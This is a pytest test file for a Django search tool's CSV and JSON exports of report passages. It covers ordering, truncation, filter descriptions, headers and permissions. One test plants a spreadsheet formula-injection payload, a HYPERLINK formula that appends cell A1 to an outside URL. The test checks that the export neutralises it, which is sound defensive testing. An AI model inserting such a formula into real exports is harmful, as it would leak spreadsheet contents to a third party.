import csv
import json
from io import StringIO
from urllib.parse import urlsplit

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from coi.finding.result_list import COLUMNS
from coi.library.citing import citation_of
from coi.library.indexing import index_report
from coi.models import Paragraph, ProfileTag, Report, Status
from coi.search.engine import FACETS
from coi.text.collation import collate
from tests.factories import make_report

STATE = "q=police&topic_all=protection&profile_not=protester&country=PER&sort=newest"


def fetched(browser, kind, state):
    return browser.get(f"{reverse(f'coi:search_{kind}')}?{state}")


def body(answer):
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode("utf-8")


def as_json(browser, state):
    return json.loads(body(fetched(browser, "json", state)))


def as_csv(browser, state):
    """What was searched, by name, and the table's rows by column."""
    text = body(fetched(browser, "csv", state))
    assert text.startswith("\ufeff")
    lines = list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
    assert {len(cells) for cells in lines} == {len(COLUMNS)}
    head = lines.index(list(COLUMNS))
    return {cells[0]: cells[1] for cells in lines[:head]}, [
        dict(zip(COLUMNS, row, strict=True)) for row in lines[head + 1 :]
    ]


def page(browser, state):
    return browser.get(f"{reverse('coi:search')}?{state}").context


def test_list_has_the_hits_of_the_page_in_its_order(sample, browse):
    browser = browse()
    shown = [hit["paragraph"] for hit in page(browser, STATE)["results"]["hits"]]
    listed = as_json(browser, STATE)["passages"]
    assert [one["paragraph"] for one in listed][: len(shown)] == [row.key for row in shown]
    for one, row in zip(listed, shown, strict=False):
        assert one["text"] == row.text
        assert one["citation"] == citation_of(row)
        assert browser.get(one["address"]).status_code == 200
        assert one["page_status"] == row.page_status
        assert one["reference_to"] == (str(row.report.reference_to) if row.report.reference_to else None)
        tags = row.profile_tags.values_list("profile__slug", "grade", "status")
        assert sorted((tag["slug"], tag["grade"], tag["status"]) for tag in one["profiles"]) == sorted(tags)


def test_list_goes_on_where_the_page_ends(sample, browse):
    found = as_json(browse(), "country=PER&page=2")
    assert found["searched"]["found"] == len(found["passages"]) == page(browse(), "country=PER")["results"]["total"]
    assert [one["number"] for one in found["passages"]] == list(range(1, len(found["passages"]) + 1))
    assert any(one["also_at"] for one in found["passages"])
    texts = {row.get_absolute_url(): row.text for row in Paragraph.objects.with_place()}
    for one in found["passages"]:
        assert all(collate(one["text"], texts[at]) == [] for at in one["also_at"])
        assert all(collate(one["text"], texts[at]) for at in one["nearly_at"])


def test_list_says_what_was_searched_when_and_in_which_reports(sample, browse):
    said = as_json(browse(), f"{STATE}&drop=PNP")["searched"]
    assert said["words"] == "police"
    assert said["filters"]["topic"] == {"any": [], "all": ["protection"], "none": []}
    assert "Protection question: all of State protection" in said["filters_in_words"]
    assert "Profile: not Protester" in said["filters_in_words"]
    assert said["order"] == "Newest information first"
    assert said["terms_left_out"] == ["PNP"]
    assert said["reports_searched"] == Report.objects.current().count()
    assert said["newest_import"] == Report.objects.latest("imported_at").imported_at.isoformat(timespec="seconds")
    facts, _ = as_csv(browse(), STATE)
    assert facts["Searched for"] == "police"
    assert "all of State protection" in facts["Filters"]
    assert facts["Searched at"][:10].count("-") == 2
    assert facts["Reports searched"].startswith(str(Report.objects.current().count()))


def test_what_was_left_out_is_named_as_the_page_names_it(quillwort, browse):
    address = f"q=quillwort+police&drop=sedgewort&drop={quillwort.slug}"
    names = ["sedgewort", "Quillwort levies (the whole concept)"]
    assert as_json(browse(), address)["searched"]["left_out_in_words"] == names
    facts, _ = as_csv(browse(), address)
    assert facts["Terms of the thesaurus left out"] == "; ".join(names)


def test_table_and_json_say_the_same(sample, browse):
    facts, rows = as_csv(browse(), "q=police")
    listed = as_json(browse(), "q=police")
    assert [row["Text"] for row in rows if row["Text verbatim"] == "yes"]
    for row, one in zip(rows, listed["passages"], strict=True):
        assert (row["Text"] == one["text"]) == (row["Text verbatim"] == "yes")
        assert row["Text"].replace("'", "") == one["text"].replace("'", "")
        assert row["Citation"] == one["citation"]
    assert facts["Paragraphs found"] == str(listed["searched"]["found"])


def test_no_cell_of_a_report_is_a_formula(own_sample, browse):
    wicked = '=HYPERLINK("http://example.org?"&A1,"wickedly prepared") is what the levy office wrote.'
    report = make_report(wicked, "A wickedly split line; =1+1 stands behind the semicolon.", title="@wicked")

    index_report(report)
    facts, rows = as_csv(browse(), "q=wickedly&drop=%3Dx")
    assert len(rows) == 2
    assert all(row["Text verbatim"] == "no" for row in rows)
    assert all(row["Report"].startswith("'@wicked") for row in rows)
    assert {row["Text"] for row in rows} == {f"'{wicked}", "A wickedly split line;' =1+1 stands behind the semicolon."}
    assert facts["Terms of the thesaurus left out"] == "", "what no thesaurus could add was not left out"
    assert facts["Not verbatim"].startswith("In 2 texts")
    assert wicked in [one["text"] for one in as_json(browse(), "q=wickedly")["passages"]]


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_a_long_list_is_cut_and_says_so(sample, browse, kind, monkeypatch):
    monkeypatch.setattr("coi.finding.result_list.MOST_IN_FILE", 5)
    total = page(browse(), "q=police")["results"]["total"]
    if kind == "json":
        found = as_json(browse(), "q=police")
        assert (found["searched"]["found"], found["searched"]["in_this_file"], len(found["passages"])) == (total, 5, 5)
    else:
        facts, rows = as_csv(browse(), "q=police")
        assert len(rows) == 5
        assert facts["Paragraphs found"] == str(total)
        assert facts["Paragraphs in this file"] == "5: the first ones only; narrow the search"


def test_rejected_tags_and_withdrawn_reports_are_not_in_the_list(sample, browse):
    tag = ProfileTag.objects.filter(profile__slug="protester").first()
    ProfileTag.objects.filter(pk=tag.pk).update(status=Status.REJECTED)
    gone = sample.reports["sample_newsletter"]
    Report.objects.filter(pk=gone.pk).update(state="withdrawn")
    listed = {one["paragraph"]: one for one in as_json(browse(), "country=PER")["passages"]}
    row = Paragraph.objects.get(pk=tag.paragraph_id)
    if row.key in listed:
        assert "protester" not in [one["slug"] for one in listed[row.key]["profiles"]]
    assert not [key for key in listed if key.startswith(f"{gone.slug}:")]
    assert not [at for one in listed.values() for at in one["also_at"] if gone.slug in at]


@pytest.mark.parametrize(("kind", "content"), [("csv", "text/csv; charset=utf-8"), ("json", "application/json")])
def test_file_is_saved_and_neither_guessed_at_nor_kept(sample, browse, kind, content):
    answer = fetched(browse(), kind, "q=extortion+secretword")
    assert answer.headers["Content-Type"] == content
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert "no-store" in answer.headers["Cache-Control"]
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="search-2')
    assert "secretword" not in answer.headers["Content-Disposition"]


@pytest.mark.parametrize("kind", ["csv", "json"])
@pytest.mark.parametrize(
    ("state", "reason"),
    [
        ("q=police&colour=red", "Unknown in the address of a search: colour."),
        ("q=police&topic=nothing", "Select a valid choice"),
        ("", "a list of all passages is not given"),
        ("q=", "a list of all passages is not given"),
    ],
)
def test_wrong_address_says_why_as_the_page_does(sample, browse, kind, state, reason):
    answer = fetched(browse(), kind, state)
    assert answer.status_code == 400
    assert "text/html" in answer.headers["Content-Type"]
    assert reason in answer.content.decode()
    assert f'action="{reverse("coi:search")}"' in answer.content.decode()


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_no_index_no_list_but_a_sentence(own_sample, browse, settings, tmp_path, kind):
    settings.INDEX_DIR = tmp_path / "no-index-here"
    answer = fetched(browse(), kind, "q=police")
    assert answer.status_code == 503
    assert "The search index is not used now" in answer.content.decode()
    assert answer.headers["Retry-After"]


def test_only_readers_of_reports_get_lists(sample, browse, client):
    assert fetched(browse("administrator"), "csv", "q=police").status_code == 403
    assert fetched(client, "json", "q=police").status_code == 302
    assert browse().post(reverse("coi:search_csv"), {"q": "police"}).status_code == 405


def test_links_of_the_page_lead_to_its_list(sample, browse):
    browser = browse()
    asked = page(browser, f"{STATE}&page=1")
    for file in asked["list_files"]:
        assert urlsplit(file["url"]).path in {"/search.csv", "/search.json"}
        assert body(browser.get(file["url"]))
    assert (
        as_json(browser, urlsplit(asked["list_files"][1]["url"]).query)["searched"]["found"]
        == asked["results"]["total"]
    )
    assert page(browser, "q=zzyzxqv&kind=glossary").get("list_files")
    assert "search.csv" not in browser.get("/?q=zzyzxqv&kind=glossary").content.decode()


def test_list_asks_as_many_queries_for_many_passages_as_for_few(sample, browse):
    browser, counts = browse(), {}
    for state in ("q=extortion&kind=paragraph", "country=PER", STATE, "country=PER&topic_not=law&year=2023"):
        as_json(browser, state)
        with CaptureQueriesContext(connection) as captured:
            passages = as_json(browser, state)["passages"]
        counts[state, len(passages)] = len(captured)
    assert len(set(counts.values())) == 1, counts
    assert set(counts.values()).pop() <= 14


def test_filters_of_every_facet_have_a_name_in_the_file(sample, browse):
    values = {"country": "PER", "profile": "lgbti", "topic": "law", "kind": "paragraph", "standing": "scope"}
    values["year"], values["edition"] = "2023", "superseded"
    values["report"] = sample.reports["sample_newsletter"].slug
    values["publisher"] = sample.reports["sample_newsletter"].publisher.slug
    assert set(values) == set(FACETS)
    state = "&".join(f"{facet}_not={value}" for facet, value in values.items())
    said = as_json(browse(), state)["searched"]["filters_in_words"]
    assert len(said) == len(FACETS)
    assert not [text for text in said if values["report"] in text or text.endswith("not PER")]
